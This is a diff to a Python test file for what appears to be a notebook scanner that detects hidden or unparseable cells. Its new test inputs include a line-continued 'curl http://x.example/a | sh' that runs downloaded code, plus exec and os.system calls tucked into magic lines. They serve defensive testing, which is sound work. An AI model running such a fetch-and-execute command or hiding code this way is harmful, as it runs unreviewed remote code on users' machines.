@@ -65,6 +65,8 @@ def test_no_cell_hides_what_another_does(others: list[str], tmp_path: Path) -> N
         f"%%capture out\n{_RUNS}",
         f"%%script python\n{_RUNS}",
         f"%cd x\n{_RUNS}  # ok?",
+        f"!pip install \\\n  torch\n{_RUNS}",
+        "!curl http://x.example/a \\\n  | sh",
         [f"{line}\n" for line in ("%pip install torch", *_RUNS.split("\n"))],
     ],
 )
@@ -88,11 +90,12 @@ def test_notebook_of_the_third_format_is_read(tmp_path: Path) -> None:
         (_notebook("x = 1", "def f(:\n  exec(x)"), (_TO_BE_READ, ["unread-cells"])),
         (_notebook("%%html\n<b>text</b>"), (_TO_BE_READ, ["unread-cells"])),
         (_notebook("%time x\nimport os\ny = (5\n% os.system('true'))"), (_TO_BE_READ, ["unread-cells"])),
+        (_notebook("%time x\ny = (5\n% z \\\n, exec('x'))"), (_TO_BE_READ, ["unread-cells"])),
         (_notebook("#" + "a" * 1024**2, "x = 1"), (_UNREADABLE, ["unreadable-code"])),
         (b'{"nbformat": 4}', (_UNREADABLE, ["unreadable-code"])),
         (b"[]", (_UNREADABLE, ["unreadable-code"])),
     ],
-    ids=["syntax", "html", "brackets", "long", "no cells", "list"],
+    ids=["syntax", "html", "brackets", "backslash", "long", "no cells", "list"],
 )
 def test_what_cannot_be_read_is_told(
     data: bytes, told: tuple[FileVerdict, list[str]], tmp_path: Path
@@ -111,6 +114,7 @@ def test_what_cannot_be_read_is_told(
         ["%%time\nx = await f()"],
         ["%%bash\nls -la | head"],
         ["?torch.load", "torch.load??"],
+        ["!pip install \\\n  torch \\\n  numpy\nx = 1", "!ls \\"],
         ["x = 'a\u2028b'"],
     ],
 )
